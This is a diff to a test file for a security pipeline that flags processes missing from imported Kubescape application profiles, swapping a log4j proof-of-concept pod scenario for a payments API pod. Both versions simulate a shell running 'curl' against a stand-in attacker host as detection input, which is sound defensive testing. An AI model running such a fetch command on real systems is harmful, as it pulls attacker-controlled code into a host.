@@ -4,7 +4,6 @@
  * evidence, and rows in CausewayProfiles_CL; Kubescape profiles imported as baselines flag what
  * they do not list from the first event.
  */
-import { readFileSync } from 'node:fs';
 import { describe, expect, it } from 'vitest';
 import { proc, tetragonConnect, tetragonExec, tetragonFile, pod } from '../../../src/demo/builders.ts';
 import type { ScenarioInput } from '../../../src/demo/scenario.ts';
@@ -12,7 +11,8 @@ import { cast } from '../../../src/demo/scenarios.ts';
 import { benignHour } from '../../scenario/scenarios.ts';
 import { importKubescape } from '../../../src/profiles/kubescape.ts';
 import { checkRow } from '../../helpers/checkRow.ts';
-import { feed, finish, liveStories, newRun, SAMPLES, testConfig } from '../../helpers/pipeline.ts';
+import { readFixture } from '../../helpers/fixtures.ts';
+import { feed, finish, liveStories, newRun, testConfig } from '../../helpers/pipeline.ts';
 
 const BASE = Date.parse('2026-11-20T10:00:00Z');
 const line = (at: number, body: string): ScenarioInput => ({ at, input: 'tetragon', body: body + '\n' });
@@ -66,15 +66,15 @@ describe('profiles in the pipeline', () => {
 
   it('a Kubescape ApplicationProfile imported as the baseline flags a shell from the first event; listed executables and egress pass', async () => {
     const baselines = [
-      ...importKubescape(readFileSync(SAMPLES + 'kubescape/ap-chain-backend.yaml', 'utf8'), 'ap', 'aks-demo'),
-      ...importKubescape(readFileSync(SAMPLES + 'kubescape/nn-chain-backend.yaml', 'utf8'), 'nn', 'aks-demo'),
+      ...importKubescape(readFixture('kubescape-profiles/ap-payments-api.yaml').toString(), 'ap', 'aks-demo'),
+      ...importKubescape(readFixture('kubescape-profiles/nn-payments-api.yaml').toString(), 'nn', 'aks-demo'),
     ];
-    const backend = pod('aks-demo', 'log4j-poc', 'chain-backend', 0, { container: 'backend' });
-    const java = proc(backend, 1, '/opt/java/openjdk/bin/java', '-jar /app/app.jar', BASE);
-    const sh = proc(backend, 200, '/bin/sh', '-c "curl http://attacker:8888/x"', BASE + 60_000, java);
+    const api = pod('aks-demo', 'payments', 'payments-api', 0, { container: 'api' });
+    const node = proc(api, 1, '/usr/local/bin/node', '/app/dist/server.js', BASE);
+    const sh = proc(api, 200, '/bin/sh', '-c "curl http://198.51.100.7:8888/x"', BASE + 60_000, node);
     const inputs = [
-      line(BASE, tetragonExec(java)),
-      line(BASE + 1000, tetragonFile(java, BASE + 1000, '/app/app.jar')),
+      line(BASE, tetragonExec(node)),
+      line(BASE + 1000, tetragonFile(node, BASE + 1000, '/app/dist/server.js')),
       line(BASE + 60_000, tetragonExec(sh)),
     ];
     const run = await finish(await feed(newRun(testConfig(), baselines), inputs));
@@ -82,7 +82,7 @@ describe('profiles in the pipeline', () => {
     expect(stories).toHaveLength(1);
     const signal = stories[0]!.signals.find((s) => s.ruleId === 'CW-PROFILE-NEW-PROCESS')!;
     expect(signal.reason).toMatch(
-      /\/bin\/sh: not in the imported profile \(kubescape ApplicationProfile log4j-poc\/chain-backend/,
+      /\/bin\/sh: not in the imported profile \(kubescape ApplicationProfile payments\/replicaset-payments-api-6f8d9c7b5d/,
     );
     expect(stories[0]!.severity).toBe('Medium');
     const deviations = run.sink.rows('CausewayProfiles_CL').filter((r) => r.RecordType === 'deviation');
